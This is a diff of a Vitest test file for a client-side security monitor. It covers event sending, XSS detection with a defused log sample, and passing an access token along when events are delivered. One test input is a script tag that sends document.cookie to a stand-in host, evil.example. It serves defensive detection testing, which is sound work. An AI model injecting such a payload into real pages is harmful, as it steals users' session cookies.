@@ -61,7 +61,7 @@ describe('sending', () => {
     const critical = monitor.log('token_refresh_failed', 'critical', { reason: 'refresh_failed' });
 
     expect(send).toHaveBeenCalledTimes(1);
-    expect(send).toHaveBeenCalledWith(critical);
+    expect(send).toHaveBeenCalledWith(critical, {});
   });
 
   it.each([
@@ -161,22 +161,50 @@ describe('recordRequest', () => {
 });
 
 describe('checkXss', () => {
-  it('logs a high xss_attempt with a sample and returns true for script-like input', () => {
-    const monitor = createSecurityMonitor();
+  it('logs a critical xss_attempt with the field and a short, defused sample, and sends it', () => {
+    const send = vi.fn();
+    const monitor = createSecurityMonitor({ send });
     const input = `<script>fetch('//evil.example/?c='+document.cookie)</script>${'x'.repeat(500)}`;
 
     expect(monitor.checkXss(input, { field: 'first_name' })).toBe(true);
 
     const [event] = monitor.events();
     expect(event?.type).toBe('xss_attempt');
-    expect(event?.severity).toBe('high');
-    expect(event?.details.field).toBe('first_name');
-    expect(String(event?.details.sample)).toHaveLength(200);
+    expect(event?.severity).toBe('critical');
+    expect(event?.details).toMatchObject({ field: 'first_name', length: input.length });
+    const sample = String(event?.details.sample);
+    expect(sample.startsWith("‹script›fetch('//evil.example/")).toBe(true);
+    expect(sample).not.toMatch(/[<>]/);
+    expect(sample.length).toBeLessThanOrEqual(81);
+    expect(send).toHaveBeenCalledWith(event, {});
   });
 
   it('returns false and logs nothing for ordinary input', () => {
     const monitor = createSecurityMonitor();
     expect(monitor.checkXss("O'Brien <obrien@example.com>")).toBe(false);
     expect(monitor.events()).toHaveLength(0);
+  });
+});
+
+describe('delivery', () => {
+  it('passes the token to report with to send, and keeps what the server recorded to itself', () => {
+    const send = vi.fn();
+    const monitor = createSecurityMonitor({ send });
+
+    const tampered = monitor.log(
+      'sensitive_storage_access',
+      'critical',
+      { reason: 'session_tampered' },
+      { accessToken: 'a.b.c' },
+    );
+    monitor.log(
+      'token_refresh_failed',
+      'critical',
+      { reason: 'refresh_token_reused' },
+      { recordedByServer: true },
+    );
+
+    expect(send.mock.calls).toEqual([[tampered, { accessToken: 'a.b.c' }]]);
+    expect(monitor.events()).toHaveLength(2);
   });
 });
